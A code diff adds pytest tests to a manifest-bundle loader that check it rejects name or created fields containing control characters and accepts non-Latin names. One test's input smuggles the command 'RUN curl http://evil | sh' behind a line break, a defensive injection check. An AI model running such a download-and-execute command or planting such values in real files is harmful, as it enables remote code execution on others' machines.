@@ -313,6 +313,21 @@ def test_a_value_of_another_type(folder: Path, name: str, value: object, message
         Bundle.open(folder)
 
 
+@pytest.mark.parametrize("field", ["name", "created"])
+@pytest.mark.parametrize("character", ["\n", "\r", "\x1b", "\x85", "\u2028"])
+def test_a_text_that_would_become_a_line_of_another_file(
+    folder: Path, field: str, character: str
+) -> None:
+    write_signed(folder, {**body_of(folder), field: f"x{character}RUN curl http://evil | sh"})
+    with pytest.raises(BundleError, match=rf"its {field} has a control character: 'x.*\nuse the"):
+        Bundle.open(folder)
+
+
+def test_a_name_in_the_letters_of_any_language(folder: Path) -> None:
+    write_signed(folder, {**body_of(folder), "name": "résumé 名前 (1)"})
+    assert Bundle.open(folder).manifest.name == "résumé 名前 (1)"
+
+
 def test_fields_of_a_later_release_are_passed_over(folder: Path) -> None:
     body = body_of(folder)
     body["colour"] = body["onnx"]["colour"] = body["preprocessing"]["colour"] = "blue"
